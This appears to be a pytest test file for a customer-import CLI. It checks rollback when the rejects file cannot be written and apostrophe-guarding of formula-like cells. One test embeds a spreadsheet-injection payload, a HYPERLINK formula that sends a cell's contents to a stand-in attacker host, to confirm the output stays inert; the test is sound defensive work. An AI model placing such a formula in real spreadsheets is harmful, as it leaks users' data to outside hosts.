"""The rejects file is written before the import commits, or the import rolls back
(issue 10, item 3), and it is formula-guarded with a guard that comes off again
when it is imported back (item 4)."""

from __future__ import annotations

import contextlib
import csv
import os
import subprocess
import sys
import tempfile
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st

from tests.conftest import TODAY, Cli, write_csv

HEADER = ["customer_id", "name", "phone"]


def read(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


def names(cli: Cli) -> dict[str, str]:
    """What ``noloan --format json`` shows: customer id → name."""
    result = cli("noloan", "--format", "json")
    assert result.exit_code == 0, result.stderr
    return {row["customer_id"]: row["name"] for row in result.json()}


def one_good_one_bad(make_csv: Callable[..., Path]) -> Path:
    return make_csv(
        "客户.csv",
        [HEADER, ["C1", "王建国", "13812348001"], ["C2", "李强", "12345"]],
    )


def committed(cli: Cli, path: Path, tmp_path: Path) -> bool:
    """Whether an earlier import of ``path`` committed: importing it again then
    finds C1 unchanged instead of adding it."""
    again = cli(
        "import", "customers", str(path), "--rejects", str(tmp_path / "again.csv"), "-f", "json"
    )
    return bool(again.json()["unchanged"] == 1)


# -- item 3: no rejects file, no import ---------------------------------------


def test_a_rejects_file_that_cannot_be_written_rolls_the_import_back(
    cli: Cli, make_csv: Callable[..., Path], tmp_path: Path
) -> None:
    path = one_good_one_bad(make_csv)
    target = tmp_path / "no-such-dir" / "fix-me.csv"
    result = cli("import", "customers", str(path), "--rejects", str(target))
    assert result.exit_code == 1
    assert result.stderr.startswith(f"Error: cannot write the rejects file {target}: ")
    assert "nothing was imported" in result.stderr
    assert not committed(cli, path, tmp_path)


def test_a_full_disk_while_writing_rejects_rolls_back_and_names_the_file(
    cli: Cli, make_csv: Callable[..., Path], tmp_path: Path
) -> None:
    path = one_good_one_bad(make_csv)
    result = cli("import", "customers", str(path), env={"RETAIN_TEST_ENOSPC": "rejects"})
    assert result.exit_code == 1
    wanted = tmp_path / "客户.rejects.csv"
    assert result.stderr == (
        f"Error: cannot write the rejects file {wanted}: No space left on device; "
        "nothing was imported\n"
    )
    assert not wanted.exists()
    assert not list(tmp_path.glob(".retain-*"))  # no temporary left either
    assert not committed(cli, path, tmp_path)
    zh = cli(
        "--lang", "zh", "import", "customers", str(path), env={"RETAIN_TEST_ENOSPC": "rejects"}
    )
    assert "磁盘空间不足" in zh.stderr and str(wanted) in zh.stderr


def test_a_replaced_rejects_file_comes_back_when_the_import_rolls_back(
    cli: Cli, make_csv: Callable[..., Path], tmp_path: Path
) -> None:
    path = one_good_one_bad(make_csv)
    target = tmp_path / "fix-me.csv"
    target.write_text("my fixes\n", encoding="utf-8")
    result = cli(
        "import",
        "customers",
        str(path),
        "--rejects",
        str(target),
        env={"RETAIN_TEST_ENOSPC": "rejects"},
    )
    assert result.exit_code == 1
    assert target.read_text(encoding="utf-8") == "my fixes\n"


@contextlib.contextmanager
def tiny_disk(tmp_path: Path, size: str) -> Iterator[Path]:
    """A real small file system (a tmpfs), mounted for the test: root only."""
    if os.geteuid() != 0:
        pytest.skip("mounting a tmpfs needs root")
    mount = tmp_path / "tiny"
    mount.mkdir()
    done = subprocess.run(
        ["mount", "-t", "tmpfs", "-o", f"size={size}", "tmpfs", str(mount)],
        capture_output=True,
        check=False,
    )
    if done.returncode != 0:
        pytest.skip("cannot mount a tmpfs here")
    try:
        yield mount
    finally:
        subprocess.run(["umount", "-l", str(mount)], check=False)


def run_retain(db: Path, *args: str, cwd: Path) -> subprocess.CompletedProcess[str]:
    """A real ``retain`` process: what it prints at exit is seen too."""
    return subprocess.run(
        [sys.executable, "-m", "retain", "--db", str(db), "--today", TODAY, *args],
        capture_output=True,
        text=True,
        cwd=cwd,
        env={**os.environ, "RETAIN_LANG": "en", "RETAIN_TTY": "0"},
        check=False,
    )


def test_a_real_full_disk_rolls_the_import_back_quietly(tmp_path: Path) -> None:
    rows: list[list[object]] = [list(HEADER), ["C1", "王建国", "13812348001"]]
    rows += [[f"X{n}", "李强" * 20, "12345"] for n in range(3000)]
    path = write_csv(tmp_path / "客户.csv", rows)
    db = tmp_path / "store" / "retain.db"
    with tiny_disk(tmp_path, "64k") as disk:
        target = disk / "fix-me.csv"
        result = run_retain(
            db, "import", "customers", str(path), "--rejects", str(target), cwd=tmp_path
        )
        assert result.returncode == 1, result.stderr
        assert result.stderr == (
            f"Error: cannot write the rejects file {target}: No space left on device; "
            "nothing was imported\n"
        )
        assert os.listdir(disk) == []
    again = run_retain(db, "import", "customers", str(path), "-f", "json", cwd=tmp_path)
    assert '"added": 1' in again.stdout


def test_an_export_to_a_full_disk_leaves_nothing_and_no_noise(seeded: Cli, tmp_path: Path) -> None:
    with tiny_disk(tmp_path, "16k") as disk:
        filler = disk / "filler"
        with contextlib.suppress(OSError), filler.open("wb") as handle:
            while True:
                handle.write(b"x" * 4096)
                handle.flush()
        target = disk / "due.csv"
        result = run_retain(seeded.db, "due", "--days", "30", "--output", str(target), cwd=tmp_path)
        assert result.returncode == 1
        assert result.stderr.startswith("Error: ") and result.stderr.count("\n") == 1
        assert "No space left on device" in result.stderr
        assert os.listdir(disk) == ["filler"]


# -- item 4: the formula guard and back ----------------------------------------


def fixed(path: Path, phone: str = "13912348002") -> Path:
    """The rejects file with its bad phone replaced, as an officer would fix it."""
    rows = read(path)
    at = rows[0].index("phone")
    for row in rows[1:]:
        row[at] = phone
    with path.open("w", encoding="utf-8-sig", newline="") as handle:
        csv.writer(handle).writerows(rows)
    return path


def test_an_xlsx_text_cell_stays_inert_in_the_rejects_file_and_comes_back_exactly(
    cli: Cli, tmp_path: Path
) -> None:
    import openpyxl

    formula = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(HEADER)
    sheet.append(["C1", formula, "12345"])
    sheet["B2"].data_type = "s"  # an inert text cell, as a user typed it with '
    source = tmp_path / "客户.xlsx"
    book.save(source)
    assert cli("import", "customers", str(source)).exit_code == 3
    rejects = tmp_path / "客户.rejects.csv"
    row = read(rejects)[1]
    assert row[1] == "'" + formula  # a spreadsheet shows it as text, never runs it
    assert row[2] == "12345"  # a digit needs no guard
    assert cli("import", "customers", str(fixed(rejects))).exit_code == 0
    assert names(cli) == {"C1": formula}


def test_every_guarded_cell_of_a_rejects_file_is_inert(
    cli: Cli, make_csv: Callable[..., Path], tmp_path: Path
) -> None:
    path = make_csv(
        "客户.csv",
        [["=客户编号", *HEADER], ["-1", "C1", "@SUM(1)", "+123"], ["x", "C2", "'quoted", "\t5"]],
    )
    assert cli("import", "customers", str(path)).exit_code == 3
    rows = read(tmp_path / "客户.rejects.csv")
    assert rows[0][:4] == ["'=客户编号", *HEADER]
    assert rows[1][:4] == ["'-1", "C1", "'@SUM(1)", "'+123"]
    assert rows[2][:4] == ["x", "C2", "''quoted", "'\t5"]


# Text an officer's export may hold, with everything a spreadsheet treats specially.
cell_text = st.text(
    alphabet=st.sampled_from(list("=+-@'\"\t\r\n ,;|!A1x王＝＋－＠'"))
    | st.characters(blacklist_categories=("Cs", "Cc"), blacklist_characters="\x00"),
    max_size=12,
)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(name=cell_text)
def test_round_trip_through_a_rejects_file_is_exact(name: str) -> None:
    """Random cell text → rejects file → fixed and imported again → the same stored
    value as importing the text straight away."""
    with tempfile.TemporaryDirectory() as raw:
        tmp = Path(raw)
        straight = Cli(tmp / "a" / "retain.db")
        source = write_csv(tmp / "good.csv", [HEADER, ["C1", name, "13912348002"]])
        assume(straight("import", "customers", str(source)).exit_code == 0)
        expected = names(straight)

        via = Cli(tmp / "b" / "retain.db")
        bad = write_csv(tmp / "bad.csv", [HEADER, ["C1", name, "12345"]])
        assert via("import", "customers", str(bad)).exit_code == 3
        rejects = tmp / "bad.rejects.csv"
        assert via("import", "customers", str(fixed(rejects))).exit_code == 0
        assert names(via) == expected


def test_a_directory_given_as_rejects_file_is_refused_and_kept(
    cli: Cli, make_csv: Callable[..., Path], tmp_path: Path
) -> None:
    path = one_good_one_bad(make_csv)
    target = tmp_path / "folder"
    target.mkdir()
    (target / "mine.txt").write_text("keep me\n", encoding="utf-8")
    result = cli("import", "customers", str(path), "--rejects", str(target))
    assert result.exit_code == 1
    assert result.stderr.startswith(f"Error: cannot write the rejects file {target}: ")
    assert (target / "mine.txt").read_text(encoding="utf-8") == "keep me\n"
    assert not committed(cli, path, tmp_path)


def test_a_failed_commit_takes_the_rejects_file_back(
    cli: Cli, make_csv: Callable[..., Path], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import sqlite3

    from retain.store import Store

    @contextlib.contextmanager
    def failing_commit(self: Store, **_: object) -> Iterator[sqlite3.Connection]:
        self.conn.execute("BEGIN IMMEDIATE")
        try:
            yield self.conn
        finally:
            self.conn.execute("ROLLBACK")
        raise sqlite3.OperationalError("database or disk is full")

    path = one_good_one_bad(make_csv)
    mine = tmp_path / "fix-me.csv"
    mine.write_text("my fixes\n", encoding="utf-8")
    monkeypatch.setattr(Store, "write", failing_commit)
    if cli.on_postgres:
        from retain.postgres.store import PgStore

        monkeypatch.setattr(PgStore, "write", failing_commit)
    default = cli("import", "customers", str(path))
    explicit = cli("import", "customers", str(path), "--rejects", str(mine))
    monkeypatch.undo()
    assert (default.exit_code, explicit.exit_code) == (1, 1)
    assert "database or disk is full" in default.stderr
    assert not (tmp_path / "客户.rejects.csv").exists()
    assert mine.read_text(encoding="utf-8") == "my fixes\n"
    assert not list(tmp_path.glob(".retain-*"))
    assert not committed(cli, path, tmp_path)


def test_stdout_to_a_full_disk_is_one_error_line_and_exit_1(seeded: Cli, tmp_path: Path) -> None:
    with tiny_disk(tmp_path, "16k") as disk:
        filler = disk / "filler"
        with contextlib.suppress(OSError), filler.open("wb") as handle:
            while True:
                handle.write(b"x" * 4096)
                handle.flush()
        with (disk / "due.csv").open("w") as stdout:
            result = subprocess.run(
                [sys.executable, "-m", "retain", "--db", str(seeded.db), "--today", TODAY]
                + ["due", "--days", "30", "--format", "csv", "--reveal"],
                stdout=stdout,
                stderr=subprocess.PIPE,
                text=True,
                env={**os.environ, "RETAIN_LANG": "en"},
                check=False,
            )
        assert result.returncode == 1
        assert result.stderr == "Error: No space left on device\n"
